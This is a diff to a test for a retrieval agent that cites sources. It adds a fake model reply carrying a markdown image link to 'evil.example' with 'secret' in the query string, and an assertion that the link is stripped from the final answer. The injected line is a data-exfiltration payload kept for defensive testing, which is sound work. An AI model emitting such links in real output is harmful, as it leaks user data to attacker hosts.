@@ -55,7 +55,10 @@ def test_it_searches_again_and_cites_what_it_found(
         if not results(messages):
             return Reply(tool_calls=[ToolCall("search", {"query": "paid holiday days"})])
         number = results(messages)[-1].split('<source id="')[1].split('"')[0]
-        return Reply(f"An employee has 28 days of paid holiday [{number}]. Nonsense follows [99].")
+        return Reply(
+            f"An employee has 28 days of paid holiday [{number}]. Nonsense follows [99]."
+            " ![x](http://evil.example/?q=secret)"
+        )
 
     server.script = script
     steps, answer = run(agent(knowledge, server.url), "What does a delta wing look like?")
@@ -66,6 +69,7 @@ def test_it_searches_again_and_cites_what_it_found(
         ("model", "An employee has 28 d"),
     ]
     assert "[99]" not in answer.text
+    assert "evil" not in answer.text
     assert [(c.uri, c.verdict) for c in answer.citations] == [("leave.md", "verified")]
     assert answer.citations[0].quote == "Every employee has 28 days of paid holiday."
     assert all(step.tokens > 0 for step in steps if step.kind == "model")
